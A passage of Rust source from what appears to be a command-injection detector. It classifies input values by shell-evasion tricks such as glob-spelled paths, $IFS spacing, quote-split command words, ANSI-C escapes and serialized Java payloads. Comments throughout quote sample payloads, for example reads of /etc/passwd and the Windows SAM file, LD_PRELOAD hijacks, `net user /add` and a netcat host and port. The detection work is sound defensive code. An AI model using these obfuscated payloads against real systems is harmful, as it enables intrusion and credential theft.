        .and_then(|v| v.strip_suffix(b"}"))
        .unwrap_or(v);
    (2..=32).contains(&v.len())
        && v[0].is_ascii_alphabetic()
        && v.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
}

/// PowerShell's environment drive as the whole value: a variable read
/// (`$env:COMPUTERNAME`, `$env:Path`) or the drive listed (`gci env:`,
/// `ls env:`, `dir env:`, `Get-ChildItem Env:`). "env: production" and
/// `$env` alone pass.
fn powershell_env(s: &[u8]) -> bool {
    if let Some(name) = s.strip_prefix(b"$env:") {
        return (2..=40).contains(&name.len())
            && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
    }
    [b"gci" as &[u8], b"ls", b"dir", b"get-childitem"]
        .iter()
        .any(|c| {
            s.strip_prefix(*c)
                .and_then(|r| r.strip_prefix(b" env:"))
                .is_some_and(|r| r.is_empty() || r == b"\\" || r == b"/")
        })
}

/// A value that is a Java serialization stream in base64: it opens with
/// the stream's magic and version `AC ED 00 05` encoded (`rO0AB`, read
/// lowercased), followed by base64 only (the gadget chains of
/// deserialisation attacks travel so). "rO0" alone passes.
fn java_serialized(s: &[u8]) -> bool {
    // Decoded (the base64 view of the field): the magic's two high bytes
    // lead, the null and `05` dropped as control bytes.
    if s.starts_with(&[0xac, 0xed]) {
        return true;
    }
    s.starts_with(b"ro0ab")
        && s.len() >= 24
        && s.iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
}

/// A value that is Bash's ANSI-C quoting of escapes only, `$'\x69\x64'`,
/// `$'\151\144'` (the shell decodes them into a command word): at least
/// two `\x..` or octal escapes and nothing else inside the quotes.
fn ansi_c_word(s: &[u8]) -> bool {
    let Some(inner) = s.strip_prefix(b"$'").and_then(|r| r.strip_suffix(b"'")) else {
        return false;
    };
    let mut k = 0;
    let mut escapes = 0;
    while k < inner.len() {
        match inner[k..] {
            [b'\\', b'x', a, b, ..] if a.is_ascii_hexdigit() && b.is_ascii_hexdigit() => k += 4,
            [b'\\', a @ b'0'..=b'7', b @ b'0'..=b'7', c @ b'0'..=b'7', ..] => {
                let _ = (a, b, c);
                k += 4
            }
            _ => return false,
        }
        escapes += 1;
    }
    escapes >= 2
}

/// `%NAME%\..` or `%NAME%/..`: a path under a cmd.exe variable.
fn windows_variable_path(t: &[u8]) -> bool {
    let Some(rest) = t.strip_prefix(b"%") else {
        return false;
    };
    let name = rest
        .iter()
        .take(32)
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    name >= 2
        && rest.get(name) == Some(&b'%')
        && matches!(rest.get(name + 1), Some(b'\\' | b'/'))
        && rest.get(name + 2).is_some_and(u8::is_ascii_alphanumeric)
}

/// A word (as [`read_word`] read it) holding what a shell or cmd.exe drops
/// from inside a word: `^` between letters, `$@`/`$*`, an unset `${x}`, an
/// empty quote pair, or a backslash before a letter after the first byte.
fn shell_spelled(t: &[u8]) -> bool {
    t.windows(2).enumerate().any(|(p, w)| match w {
        [b'^', c] => p > 0 && c.is_ascii_alphanumeric(),
        b"$@" | b"$*" => true,
        b"${" => empty_expansion(t, p).is_some(),
        b"''" | b"\"\"" => p > 0,
        [b'\\', c] => p > 0 && c.is_ascii_lowercase(),
        _ => false,
    })
}

/// A shell conditional in a shell context: `if` and a test (`[`, `[[`,
/// `test`), the test closed and `then` after a `;` or a line break within
/// 160 bytes (`;if [ 1 -eq 1 ];then sleep 3;fi`, `\nif [[ $x ]]\nthen`:
/// the time-based probe of command-injection tools). The caller requires a
/// strong context, so a shell snippet inside a comment's text passes.
fn shell_if(s: &[u8], i: usize) -> bool {
    let Some(rest) = s.get(i..).and_then(|r| r.strip_prefix(b"if ")) else {
        return false;
    };
    let rest = rest.strip_prefix(b"! ").unwrap_or(rest);
    let close: &[u8] = if rest.starts_with(b"[[ ") {
        b"]]"
    } else if rest.starts_with(b"[ ") {
        b"]"
    } else if rest.starts_with(b"test ") {
        b""
    } else {
        return false;
    };
    // The first `then` in the window decides (one substring search).
    let window = &rest[..rest.len().min(160)];
    let Some(k) = memchr::memmem::find(window, b"then") else {
        return false;
    };
    let before = window[..k].strip_suffix(b" ").unwrap_or(&window[..k]);
    matches!(before.last(), Some(b';' | b'\n'))
        && window
            .get(k + 4)
            .is_none_or(|&b| matches!(b, b' ' | b'\n' | b';'))
        && before[..before.len() - 1].trim_ascii_end().ends_with(close)
}

/// A word of a program's shape (lowercase letters, digits, `-`, `_`, two
/// to 24, read at `i` without quotes or escapes) followed by an option
/// (`-f`, `--version`).
fn unlisted_with_option(s: &[u8], i: usize, w: &[u8], j: usize) -> bool {
    w.len() >= 2
        && j - i == w.len()
        && w[0].is_ascii_lowercase()
        && s.get(j) == Some(&b' ')
        && s.get(j + 1) == Some(&b'-')
        && match s.get(j + 2) {
            Some(b'-') => s.get(j + 3).is_some_and(u8::is_ascii_lowercase),
            Some(b) => b.is_ascii_alphabetic() && ends_option(s.get(j + 3).copied()),
            None => false,
        }
}

/// A short option ends at a space, the value's end, a separator or `=`
/// (`-f`, `-la`: at most a cluster read as one word).
fn ends_option(next: Option<u8>) -> bool {
    next.is_none_or(|b| {
        b == b' ' || b == b'=' || b.is_ascii_alphanumeric() || ends_command(Some(b))
    })
}

/// A program word glued to what only a shell reads after it: a
/// redirection to or from a path (`cat</etc/passwd`, `id>/tmp/x`,
/// `ls 2>&1`-style `>&`), or the field separator standing for the space
/// (`cat$IFS/etc/passwd`, `cat${IFS}x`, `$IFS$9`).
fn glued_argument(s: &[u8], j: usize) -> bool {
    let rest = s.get(j..).unwrap_or(&[]);
    if rest.starts_with(b"$ifs") || rest.starts_with(b"${ifs}") {
        return true;
    }
    matches!(
        rest,
        [b'<' | b'>', b'>', b'/' | b'~' | b'&', ..] | [b'<' | b'>', b'/' | b'~' | b'&', ..]
    )
}

/// Among the next three arguments of an ordinary-word program, one that
/// only a command line has: a redirection to a path (`echo x > /tmp/y`)
/// or an absolute path into the system's own directories (`grep root
/// /etc/passwd`, `tar cf x.tar /etc`). Prose names such directories rarely
/// and never after a program word and at most two words.
fn later_system_argument(rest: &[u8]) -> bool {
    const ROOTS: &[&[u8]] = &[
        b"/etc", b"/tmp/", b"/bin/", b"/sbin/", b"/usr/", b"/var/", b"/dev/", b"/proc/", b"/root",
        b"/home/", b"/opt/", b"/boot/", b"/sys/",
    ];
    let line = &rest[..rest
        .iter()
        .take(96)
        .position(|&b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'`'))
        .unwrap_or(rest.len().min(96))];
    line.split(|&b| b == b' ')
        .filter(|t| !t.is_empty())
        .take(3)
        .enumerate()
        .any(|(k, t)| {
            let t = t
                .strip_prefix(b">>")
                .or_else(|| t.strip_prefix(b">"))
                .or_else(|| t.strip_prefix(b"<"))
                .unwrap_or(t);
            k > 0
                && ROOTS.iter().any(|r| {
                    t.starts_with(r)
                        && if r.ends_with(b"/") {
                            t.len() > r.len()
                        } else {
                            matches!(t.get(r.len()), None | Some(b'/'))
                        }
                })
        })
}

/// A variable run as the command after the value assigned it
/// (`CMD=$'id';$CMD`, `a=id;${a}`): the shell expands the word and runs
/// what it holds. The assignment is a shell one: the name opens the value
/// or follows a separator, and is not a PHP variable (`$cmd = 'x'; $cmd`).
/// Only in the first 128 bytes (where such a line starts): a constant cost
/// per separator.
fn assigned_variable_run(s: &[u8], i: usize) -> bool {
    if s.get(i) != Some(&b'$') || i > 128 {
        return false;
    }
    let braced = s.get(i + 1) == Some(&b'{');
    let k = i + 1 + usize::from(braced);
    let len = s
        .get(k..)
        .unwrap_or(&[])
        .iter()
        .take(32)
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    if len == 0 || !s[k].is_ascii_alphabetic() && s[k] != b'_' {
        return false;
    }
    let mut e = k + len;
    if braced {
        if s.get(e) != Some(&b'}') {
            return false;
        }
        e += 1;
    }
    // A word made of several variables (`a=c;b=at;$a$b /etc/passwd`): the
    // shell joins them into the command; the first must be assigned.
    for _ in 0..4 {
        if s.get(e) != Some(&b'$') {
            break;
        }
        let more = s[e + 1..]
            .iter()
            .take(32)
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        if more == 0 {
            break;
        }
        e += 1 + more;
    }
    if !(ends_command(s.get(e).copied()) || s.get(e) == Some(&b' ')) {
        return false;
    }
    let name = &s[k..k + len];
    let before = &s[..i];
    let mut from = 0;
    while let Some(p) = before.get(from..).and_then(|t| find(t, name)) {
        let at = from + p;
        from = at + 1;
        let opens = at == 0
            || matches!(
                before[at - 1],
                b';' | b'&' | b'|' | b'\n' | b' ' | b'\'' | b'"' | b'`'
            );
        if opens && before.get(at + len) == Some(&b'=') && (at == 0 || before[at - 1] != b'$') {
            return true;
        }
    }
    false
}

/// `. /path/script` after a strong separator: the shell's `source`.
fn dot_source(s: &[u8], i: usize) -> bool {
    s.get(i) == Some(&b'.')
        && s.get(i + 1) == Some(&b' ')
        && matches!(s.get(i + 2), Some(b'/' | b'~'))
}

/// `ps` options in the BSD and System V styles a shell user types
/// (`ps aux`, `ps auxww`, `ps ef`): what no sentence writes after "ps".
fn ps_options(rest: &[u8]) -> bool {
    let token = rest
        .iter()
        .take(8)
        .take_while(|b| b.is_ascii_alphabetic())
        .count();
    matches!(
        &rest[..token],
        b"aux" | b"auxf" | b"auxw" | b"auxww" | b"axu" | b"axjf" | b"ax" | b"ef" | b"eaf" | b"elf"
    ) && ends_command(rest.get(token).copied())
        || rest.get(token) == Some(&b' ') && matches!(&rest[..token], b"aux" | b"auxf" | b"auxww")
}

/// A command word that is an absolute path spelled with glob wildcards
/// (`/???/??t`, `/b?n/c?t`, `/usr/bin/w*mi`): the shell expands it to the
/// program before running it, and no path in text is written so. Two
/// directories at least, only path and glob characters up to the end of
/// the word, and two wildcards, one in a directory or a `*` inside a name
/// (`/api/search?` and `/shop/cart?step` are a URL's path and query,
/// `/docs/*.md` a pattern, not a glob the shell runs).
fn glob_command(s: &[u8], i: usize, brace: bool) -> bool {
    if s.get(i) != Some(&b'/') {
        return false;
    }
    let (mut slashes, mut wild, mut wild_in_dir, mut seg_wild) = (0, 0, false, false);
    let mut starred = false;
    let mut j = i;
    while j < s.len() && j - i < 64 {
        match s[j] {
            b'/' => {
                slashes += 1;
                wild_in_dir |= seg_wild;
                seg_wild = false;
            }
            // A negated bracket expression (`/[!a]in/cat`) is one wildcard;
            // others (`/bi[n]/sh`) are read by `deglobbed`, and `[0]`,
            // `[id]` are indexes and route parameters.
            b'[' => match s[j..].iter().take(10).position(|&b| b == b']') {
                Some(close) if close > 2 && matches!(s[j + 1], b'!' | b'^') => {
                    wild += 1;
                    seg_wild = true;
                    j += close;
                }
                _ => break,
            },
            b'?' | b'*' => {
                wild += 1;
                seg_wild = true;
                // `wh*mi`: a star inside a name (`/docs/*.md` is a pattern).
                starred |= s[j] == b'*'
                    && s[j - 1].is_ascii_alphanumeric()
                    && s.get(j + 1).is_some_and(u8::is_ascii_alphanumeric);
            }
            b'a'..=b'z' | b'0'..=b'9' | b'_' | b'-' | b'.' => {}
            _ => break,
        }
        j += 1;
    }
    // One wildcard is enough in a program name under a binary directory
    // (`/bin/ca?`, `/usr/bin/wh?ami`): those directories hold only
    // programs, and a listing pattern is a star alone (`/usr/bin/*`).
    let named_in_bin = wild == 1 && !wild_in_dir && {
        let name = &s[i..j];
        let dir = name.iter().rposition(|&b| b == b'/').unwrap_or(0);
        let (dir, name) = (&name[..=dir], &name[dir + 1..]);
        BIN_DIRS.contains(&dir) && name.len() >= 2 && name.iter().any(u8::is_ascii_alphabetic)
    };
    slashes >= 2
        && (wild >= 2 || wild_in_dir || starred || named_in_bin)
        && (ends_command(s.get(j).copied())
            || s.get(j) == Some(&b' ')
            || brace && s.get(j) == Some(&b','))
}

/// The directories that hold only programs.
const BIN_DIRS: &[&[u8]] = &[
    b"/bin/",
    b"/sbin/",
    b"/usr/bin/",
    b"/usr/sbin/",
    b"/usr/local/bin/",
    b"/usr/local/sbin/",
];

/// Reads a command word at `i` the way the shell does (quotes, `\` and `$@`
/// dropped, a directory prefix such as `/usr/bin/` or `c:\windows\`
/// skipped, `.exe` removed): its length in `word` and where it ends.
fn read_word(s: &[u8], i: usize, word: &mut [u8; 24]) -> Option<(usize, usize)> {
    let mut len = 0;
    let mut j = i;
    while j < s.len() && j - i < 64 {
        let b = s[j];
        match b {
            // A literal `\n` that ends the word: payload lists write the
            // line break so (`;id\n`).
            // Followed by another escape (`u\n\a\m\e`, `e\n\v`), it is an
            // escaped `n` inside the word.
            b'\\'
                if len > 0
                    && s.get(j + 1) == Some(&b'n')
                    && !s.get(j + 2).is_some_and(u8::is_ascii_alphanumeric)
                    && !(s.get(j + 2) == Some(&b'\\')
                        && s.get(j + 3).is_some_and(u8::is_ascii_lowercase)) =>
            {
                j += 2;
                break;
            }
            // Quotes and escapes the shell drops; `^` is cmd.exe's escape
            // (`w^h^o^a^m^i`).
            b'\'' | b'"' | b'\\' | b'^' => {}
            // Expansions that are empty in a shell: `$@`, `$*`, `$()`,
            // an unset variable (`sh$xx`, `c${u}at`). `$IFS` is a space.
            // Bash's ANSI-C and locale quoting (`$'id'`, `$"id"`): the
            // quotes are dropped like any other.
            b'$' if matches!(s.get(j + 1), Some(b'\'' | b'"')) => {}
            // An empty process substitution glued inside the word
            // (`pi<()ng`): it expands to a path only when it runs something.
            b'<' | b'>' if len > 0 && s.get(j + 1..j + 3) == Some(b"()") => j += 2,
            b'$' => match empty_expansion(s, j) {
                Some(end) => j = end - 1,
                None => break,
            },
            // An empty command substitution (`wh``oami`).
            b'`' if len > 0 && s.get(j + 1) == Some(&b'`') => j += 1,
            b'/' | b':' => len = 0,
            b'a'..=b'z' | b'0'..=b'9' | b'_' | b'-' | b'.' => {
                if len == word.len() {
                    return None;
                }
                word[len] = b;
                len += 1;
            }
            _ => break,
        }
        j += 1;
    }
    let w = &word[..len];
    let mut len = if w.ends_with(b".exe") { len - 4 } else { len };
    // A versioned binary (`gcc10.1`, `python3.8`, `perl5`): the name
    // without its version, when only that is a program.
    if matches!(word[len.max(1) - 1], b'0'..=b'9' | b'.')
        && commands::lookup(&word[..len]).is_none()
    {
        let mut bare = word[..len]
            .iter()
            .rposition(|b| !b.is_ascii_digit() && *b != b'.')
            .map_or(0, |p| p + 1);
        // Debian's side-by-side versions (`gcc-12`, `clang-15`).
        if bare > 3 && word[bare - 1] == b'-' {
            bare -= 1;
        }
        if bare >= 3 && bare < len && commands::lookup(&word[..bare]).is_some() {
            len = bare;
        }
    }
    (len > 0).then_some((len, j))
}

/// The end of a shell expansion at `i` (a `$`) that is empty as far as the
/// command word goes, or `None` (`$IFS`, `${IFS}` stand for a space; a
/// `$` not followed by an expansion is a character).
fn empty_expansion(s: &[u8], i: usize) -> Option<usize> {
    let rest = s.get(i + 1..)?;
    match rest.first()? {
        b'@' | b'*' => Some(i + 2),
        b'(' if rest.get(1) == Some(&b')') => Some(i + 3),
        b'{' => {
            let close = rest.iter().take(18).position(|&b| b == b'}')?;
            let name = &rest[1..close];
            (!name.is_empty()
                && name != b"ifs"
                && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_'))
            .then_some(i + 2 + close)
        }
        b'a'..=b'z' | b'_' => {
            let n = rest
                .iter()
                .take(16)
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                .count();
            (&rest[..n] != b"ifs").then_some(i + 1 + n)
        }
        _ => None,
    }
}

/// The word ends a command: end of value, a separator, a redirection, a quote.
fn ends_command(next: Option<u8>) -> bool {
    matches!(
        next,
        None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'>' | b'<' | b'#' | b'\'' | b'"')
    )
}

/// A word from the long program list after a separator: programs that are
/// no ordinary word count with anything after them; ordinary words only in a
/// shell context and with an argument shaped like one.
fn program(s: &[u8], w: &[u8], j: usize, context: Context) -> bool {
    let Some(kind) = commands::lookup(w) else {
        return false;
    };
    let next = s.get(j).copied();
    if next == Some(b' ') && windows_verb(w, &s[j + 1..]) {
        return true;
    }
    match kind {
        Word::Program => ends_command(next) || matches!(next, Some(b' ' | b'$' | b'{' | b'+')),
        Word::Ordinary => {
            // `| Free | $0 |`, `| date\n`: a cell of a Markdown table, not
            // a command reading the pipe.
            let cell = s[j..].iter().take(2).find(|&&b| b != b' ');
            if context.pipe && matches!(cell, Some(b'|' | b'\n')) {
                return false;
            }
            let with_arg = next == Some(b' ')
                && (arg_shaped(s, j + 1, false)
                    || (context.opens && s.get(j + 1).is_some_and(u8::is_ascii_alphanumeric))
                    || (w == b"ps" && ps_options(&s[j + 1..]))
                    || later_system_argument(&s[j + 1..]));
            (context.strong && (ends_command(next) || with_arg)) || (context.token && with_arg)
        }
    }
}

/// The commands of the short lists, as before the long list existed.
fn known_command(
    s: &[u8],
    w: &[u8],
    (start, j): (usize, usize),
    strong: bool,
    brace: bool,
) -> bool {
    let next = s.get(j).copied();
    if brace {
        // `{cat,/etc/passwd}` brace expansion.
        // `{id,name}` is a field list: the argument must look like one.
        return next == Some(b',')
            && WITH_ARGS.contains(&w)
            && (commands::lookup(w) == Some(Word::Program)
                || s.get(j + 1) == Some(&b'}')
                || arg_shaped(s, j + 1, false))
            || (s.get(start.wrapping_sub(1)) == Some(&b',')
                && matches!(next, Some(b',' | b'}'))
                && commands::lookup(w).is_some())
            // `{netstat,}`: the expansion is the word alone; an ordinary
            // word only when the brace is the whole value (`{date,}`
            // inside code is an object's shorthand).
            || (next == Some(b',')
                && s.get(j + 1) == Some(&b'}')
                && s.get(start.wrapping_sub(1)) == Some(&b'{')
                && match commands::lookup(w) {
                    Some(Word::Program) => true,
                    Some(Word::Ordinary) => start == 1 && j + 2 == s.len(),
                    None => false,
                });
    }
    let ends = ends_command(next);
    // After a weak separator, an ordinary word that ends at a line break
    // (GraphQL selections: `{\n id\n name`) or goes on into a list
    // (`hold;dir;park`) is an item, not a command.
    let item = !strong
        && commands::lookup(w) == Some(Word::Ordinary)
        && (next == Some(b'\n')
            || (matches!(next, Some(b';' | b'|' | b','))
                && s.get(j + 1).is_some_and(u8::is_ascii_alphanumeric)));
    if item {
        return false;
    }
    if BARE.contains(&w) && (ends || (next == Some(b' ') && arg_shaped(s, j + 1, false))) {
        return true;
    }
    if !WITH_ARGS.contains(&w) {
        return false;
    }
    let mut k = j;
    // `${IFS}` and `$IFS$9` stand in for the space.
    if s.get(k..).is_some_and(|r| r.starts_with(b"${ifs}")) {
        return true;
    }
    if next != Some(b' ') && next != Some(b'\t') {
        return strong && ends;
    }
    k += 1;
    if ANY_ARG.contains(&w) && s.get(k).is_some_and(|b| b.is_ascii_alphanumeric()) {
        return true;
    }
    if NETWORK.contains(&w)
        && s[k..]
            .iter()
            .take_while(|&&b| b != b' ' && b != b';' && b != b'|')
            .any(|&b| b == b'.')
    {
        return true;
    }
    arg_shaped(s, k, strong)
}

/// A word with a pair of the same quote inside it, letters before or after
/// the pair (`'c'url`, `wh""oami`, `c'a't`).
fn split_by_quotes(t: &[u8]) -> bool {
    for q in [b'\'', b'"'] {
        let mut at = t
            .iter()
            .enumerate()
            .filter(|(_, &b)| b == q)
            .map(|(k, _)| k);
        if let (Some(a), Some(b)) = (at.next(), at.next()) {
            let inside = a > 0 || b + 1 < t.len();
            let letters_out = t[..a].iter().any(u8::is_ascii_alphabetic)
                || t[b + 1..].iter().any(u8::is_ascii_alphabetic);
            if inside && letters_out {
                return true;
            }
        }
    }
    false
}

/// A value that is a command line by itself, with no separator before it
/// (the application-context guard: a parameter that holds a command is
/// passed to a shell, and nothing else reads like one): a program that is no
/// ordinary word followed by an argument shaped like one or by an option
/// later on (`ansible all -m ping`), an ordinary-word program with an option
/// or an absolute path (`ls -la /etc`, `dir c:\users`), a prefix program
/// running a program (`time ifconfig`, `which curl`), or Windows `net` and
/// `reg` with their verbs (`net user x y /add`, `reg add "hklm\..."`).
fn command_line(s: &[u8]) -> bool {
    let mut i = 0;
    while matches!(s.get(i), Some(b' ' | b'\'' | b'"' | b'@')) {
        i += 1;
    }
    // A subshell or group (`(id)`, `( ifconfig )`, `{ ifconfig; }`), a
    // negated command (`! ifconfig`), the shell's prefixes before the word.
    let group = matches!(s.get(i), Some(b'(' | b'{' | b'!'));
    if group {
        i += 1;
        if s[i - 1] == b'{' && s.get(i) != Some(&b' ') {
            // `{id}` is a placeholder; a group needs the space.
            return false;
        }
        while s.get(i) == Some(&b' ') {
            i += 1;
        }
    }
    // Assignments before the command (`LD_PRELOAD=/tmp/x.so whoami`,
    // `VAR=xyz ifconfig`): the shell runs the word after them.
    let mut assigned = false;
    for _ in 0..2 {
        match assignment(s, i) {
            Some(e) => {
                i = e;
                assigned = true;
            }
            None => break,
        }
    }
    // Session 12: a word that expands to nothing before the command
    // (`$a ifconfig`, `$@ id`), as after a separator (`;$a cat x`): the
    // shell drops it and runs the next word, read as after an assignment.
    if !assigned && s.get(i) == Some(&b'$') {
        if let Some(e) = empty_expansion(s, i) {
            if s.get(e) == Some(&b' ') && s.get(e + 1).is_some_and(u8::is_ascii_lowercase) {
                // A program that is no ordinary word runs alone or with
                // anything (`$a ifconfig`); an ordinary one needs what it
                // needs as the value's first word (`$a ls -la`, not
                // "$total time").
                let mut next = [0u8; 24];
                let program = read_word(s, e + 1, &mut next)
                    .is_some_and(|(n, _)| commands::lookup(&next[..n]) == Some(Word::Program));
                i = e + 1;
                assigned = program;
            }
        }
    }
    let mut word = [0u8; 24];
    let Some((len, j)) = read_word(s, i, &mut word) else {
        // `$ifconfig`, `$whoami`: a program's name expanded as the command.
        return s.get(i) == Some(&b'$') && expanded_program(s, i + 1);
    };
    let w = &word[..len];
    let next = s.get(j).copied();
    let kind = commands::lookup(w);
    // A listed program with an argument, its name split by a pair of
    // quotes the shell drops (`'c'url localhost`, `'i'p a`, `wh""oami -x`):
    // a word quoted inside is spelled for a shell. ("O'Keefe's", with one
    // quote, and `'cscli' alerts`, quoted whole, are read elsewhere.)
    let from = if i > 0 && matches!(s[i - 1], b'\'' | b'"') {
        i - 1
    } else {
        i
    };
    if kind.is_some() && next == Some(b' ') && j - from > len + 1 && split_by_quotes(&s[from..j]) {
        return true;
    }
    // Any listed program, ordinary words too, spelled with what only a
    // shell drops inside the word (`h^o^s^t^n^a^m^e`, `i""d`, `i$@d`,
    // `e${bx}n${bz}v`, `ifc\o\n\fig`: command-injection tools' tamper
    // scripts), alone or with arguments: no text spells a word so.
    if kind.is_some() && matches!(next, None | Some(b' ')) && shell_spelled(&s[i..j]) {
        return true;
    }
    // Bash's ANSI-C quoting around the command word (`$'id'`, also what
    // `$'\x69\x64'` reads once its escapes are decoded).
    if kind.is_some()
        && i == 0
        && matches!(s, [b'$', b'\'' | b'"', ..])
        && matches!(next, None | Some(b' '))
    {
        return true;
    }
    if (group || assigned) && kind.is_some() {
        // After a group opener or an assignment, a program with anything,
        // an ordinary word closed, separated or with an argument like one.
        let closed = matches!(next, Some(b')' | b'}' | b';' | b'|' | b'&'))
            || next == Some(b' ') && matches!(s.get(j + 1), Some(b')' | b'}'));
        // An option, a path or a redirection (`(ls -la)`), not a number or
        // a word: "(python 3 only)", "(curl is required)" are remarks.
        let with_arg = next == Some(b' ')
            && matches!(
                s.get(j + 1),
                Some(b'-' | b'/' | b'~' | b'$' | b'\\' | b'>' | b'<' | b'|')
            );
        let ends = next.is_none() || closed;
        // `(free)`, `! date`: an ordinary word alone in a group is a label.
        let program = kind == Some(Word::Program) && (ends || assigned && next == Some(b' '));
        if program || with_arg || assigned && ends {
            return true;
        }
    }
    if next.is_some_and(|b| matches!(b, b';' | b'|' | b'&'))
        && matches!(s.get(j + 1), None | Some(b';' | b'|' | b'&' | b'#'))
        && kind.is_some()
    {
        // `id;`, `ls|`, `who&&`: the word, then a separator that goes on
        // into no item (`php;java;ruby` is a list).
        return true;
    }
    if next.is_none() && kind == Some(Word::Ordinary) && j > len + i && !group {
        // `i\d`, `l\s`: a word the shell reads with its escapes dropped
        // ("I'd" keeps its quote: English).
        if s[i..j].contains(&b'\\') && s[i].is_ascii_alphabetic() {
            return true;
        }
    }
    if next != Some(b' ') {
        // `visudo\n`, `whoami;0`: a program, then the command ends; or a
        // quote breakout then a program (`" whoami`).
        // `w"h"o"a"m"i`: quotes inside the word, dropped by the shell.
        let quoted = s[..i].iter().any(|&b| b == b'"' || b == b'\'')
            || s.first() == Some(&b'\\')
            || (next.is_none()
                && s[i..j].len() > len + 1
                && s[i + 1..j - 1].iter().any(|&b| b == b'"' || b == b'\''));
        return (next.is_some() || quoted)
            && ends_command(next)
            && commands::lookup(w) == Some(Word::Program);
    }
    let rest = &s[j + 1..];
    let option = |r: &[u8]| {
        r.first() == Some(&b'-') && r.get(1).is_some_and(|b| b.is_ascii_alphabetic())
            || r.starts_with(b"--")
    };
    // An absolute path of two levels or the root itself (`/etc/x`, `/;`),
    // a home path, a drive path; `/a` alone is a Windows switch.
    let path = |r: &[u8]| {
        let token = r.iter().take_while(|&&b| b != b' ').count();
        matches!(r, [b'/', b';' | b'*' | b' ', ..] | [b'/'] | [b'~', b'/', ..])
            // `~+/x`, `~-`: the current and previous directory.
            || matches!(r, [b'~', b'+' | b'-'] | [b'~', b'+' | b'-', b'/' | b' ', ..])
            || (r.first() == Some(&b'/') && r[1..token].contains(&b'/'))
            || matches!(r, [b'a'..=b'z', b':', b'\\' | b'/', ..])
            // A path under a Windows variable (`%SYSTEMROOT%\repair\SAM`,
            // `%USERPROFILE%\Desktop`); "%d%" or "%5 off" is no path.
            || windows_variable_path(&r[..token])
    };
    if commands::PREFIXES.contains(&w) {
        let mut next = [0u8; 24];
        let mut k = j + 1;
        // `timeout 5 id`, `timeout 10s id`: the duration, then the program.
        if w == b"timeout" {
            let d = s[k..]
                .iter()
                .take(8)
                .take_while(|b| b.is_ascii_digit())
                .count();
            let unit = usize::from(matches!(s.get(k + d), Some(b's' | b'm' | b'h' | b'd')));
            if d > 0 && s.get(k + d + unit) == Some(&b' ') {
                k += d + unit + 1;
            }
        }
        for _ in 0..2 {
            match assignment(s, k) {
                Some(e) => k = e,
                None => break,
            }
        }
        if let Some((n, e)) = read_word(s, k, &mut next) {
            // The program ends the value or takes an argument like one.
            let after = s.get(e).copied();
            let runs = ends_command(after) || (after == Some(b' ') && arg_shaped(s, e + 1, false));
            // A program that is no ordinary word takes any argument that is
            // not a plain word either (`time curl example.org`, `nohup wget
            // x.org`; not "time ifconfig tutorial").
            let program_arg = after == Some(b' ')
                && s.get(e + 1).is_some_and(u8::is_ascii_alphanumeric)
                && s[e + 1..]
                    .iter()
                    .take_while(|&&b| b != b' ')
                    .any(|b| !b.is_ascii_alphabetic())
                && commands::lookup(&next[..n]) == Some(Word::Program);
            if commands::lookup(&next[..n]).is_some() && runs || program_arg {
                return true;
            }
        }
    }
    // `cmd /c whoami`, `cmd.exe /k dir`: the switches that run a command.
    if w == b"cmd"
        && rest.len() > 2
        && rest[0] == b'/'
        && matches!(rest[1], b'c' | b'k' | b'r')
        && rest[2] == b' '
    {
        return true;
    }
    // `kill -9 1`, `su -`, `wget x`, `nc x 80`: shapes no sentence has.
    if w == b"kill" && rest.first() == Some(&b'-') && rest.get(1).is_some_and(u8::is_ascii_digit)
        || w == b"su" && rest == b"-"
        || ANY_ARG.contains(&w)
            && rest.first().is_some_and(u8::is_ascii_alphanumeric)
            && !rest.contains(&b' ')
    {
        return true;
    }
    // `ping 127.0.0.1`, `dig 10.0.0.1`: a network program given an IPv4
    // address and nothing else; `echo %username%`: a cmd variable printed.
    if NETWORK.contains(&w)
        && rest.iter().filter(|&&b| b == b'.').count() == 3
        && rest.iter().all(|b| b.is_ascii_digit() || *b == b'.')
        || w == b"echo"
            && rest.len() > 2
            && rest[0] == b'%'
            && rest[rest.len() - 1] == b'%'
            && rest[1..rest.len() - 1]
                .iter()
                .all(|b| b.is_ascii_alphanumeric() || *b == b'_')
    {
        return true;
    }
    // `telnet x 23`, `nc host 4444`: a host and a port number.
    if NETWORK.contains(&w) || ANY_ARG.contains(&w) {
        let host = rest.iter().take_while(|&&b| b != b' ').count();
        let port = rest.get(host + 1..).unwrap_or(&[]);
        if host > 0
            && rest[..host].contains(&b'.')
            && rest.get(host) == Some(&b' ')
            && (1..=5).contains(&port.len())
            && port.iter().all(u8::is_ascii_digit)
        {
            return true;
        }
    }
    // `cat x.txt`, `tail app.log`: the programs that print a file, given a
    // file name with an extension as the whole argument.
    if FILE_READERS.contains(&w) && file_name(rest) {
        return true;
    }
    if windows_verb(w, rest) {
        return true;
    }
    if w == b"alias" {
        // `alias ls='rm -rf'`, `alias -g x=y`.
        let name = rest
            .iter()
            .take(32)
            .take_while(|&&b| b != b' ' && b != b'=')
            .count();
        return rest.get(name) == Some(&b'=') || option(rest) || rest.first() == Some(&b'+');
    }
    // The program word itself quoted, as a shell reads it (`'cscli' alerts
    // list`, `"netsh" wlan show`): quoting no prose does.
    let quoted_word = s[..i].iter().any(|&b| b == b'\'' || b == b'"')
        && matches!(s[i..j].last(), Some(b'\'' | b'"'));
    match commands::lookup(w) {
        Some(Word::Program) if quoted_word => true,
        Some(Word::Program) => {
            // A compound binary name (`ansible-playbook`, `aa-disable`)
            // with an argument, or a file argument (`x site.yml`).
            let first = &rest[..rest.iter().position(|&b| b == b' ').unwrap_or(rest.len())];
            let file_arg = first.iter().rposition(|&b| b == b'.').is_some_and(|d| {
                d > 0 && d + 1 < first.len() && first[d + 1..].iter().all(u8::is_ascii_alphanumeric)
            });
            (w.contains(&b'-') && rest.first().is_some_and(u8::is_ascii_alphanumeric))
                || file_arg
                || arg_shaped(s, j + 1, false)
                || later_system_argument(rest)
                || rest
                    .iter()
                    .take(80)
                    .enumerate()
                    .any(|(k, &b)| b == b' ' && option(&rest[k + 1..]))
        }
